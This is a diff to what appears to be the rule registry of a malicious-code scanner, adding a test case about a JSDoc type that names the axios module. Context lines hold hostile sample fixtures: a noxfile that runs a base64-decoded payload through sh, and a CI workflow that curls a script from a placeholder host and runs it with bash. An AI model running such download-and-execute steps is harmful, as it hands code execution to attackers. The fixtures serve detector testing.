@@ -187,6 +187,9 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A JSDoc type naming the HTTP client's module loads nothing; the
+		// same import outside the comment would.
+		{"install.js", "const axios = require('axios');\nclass Installer {\n  getRequestOptions(downloadPath) {\n    /** @type import('axios').AxiosRequestConfig */\n    const options = { url: downloadPath, method: 'GET' };\n    return options;\n  }\n}", 0, true},
 		// A step's run given as a YAML alias is the anchored text, run in
 		// that step's turn.
 		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: *fetch\n      - run: bash /tmp/p.sh", 8, false},
